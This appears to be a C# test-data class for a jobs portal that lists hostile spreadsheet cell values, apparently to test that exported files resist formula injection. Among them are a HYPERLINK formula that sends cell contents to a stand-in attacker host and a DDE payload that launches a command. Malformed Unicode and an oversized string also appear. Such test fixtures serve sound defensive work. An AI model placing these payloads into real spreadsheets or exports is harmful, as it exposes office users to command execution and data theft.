namespace JobsPortal.Web.Tests.Data.Spreadsheets;

/// <summary>What somebody may type so that a spreadsheet of the office runs it, or cannot read the file.</summary>
public static class HostileCells
{
    /// <summary>The texts.</summary>
    public static readonly string[] All =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00A0=1+1", "　=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1;1)",
        "=HYPERLINK(\"https://evil.example/?\"&A1;\"여기\")", "=cmd|' /C calc'!A0", "\"=1+1\"", "'=1+1", "=1+1\",\"=2+2", "=1+1\r\n=2+2", ";=1+1", ",=1+1",
        "010-0000-1234", "2026-11-02", "1E5", "00123", "가\u0000나", "가\u0001나\u000B다", "가\uFFFE나", "가\uD800나", "😀", new('가', 40_000),
    ];

    /// <summary>A table with one of them in each row.</summary>
    public static IEnumerable<IReadOnlyList<string>> Rows => All.Select((text, i) => new[] { $"{i}", text, "끝" });
}
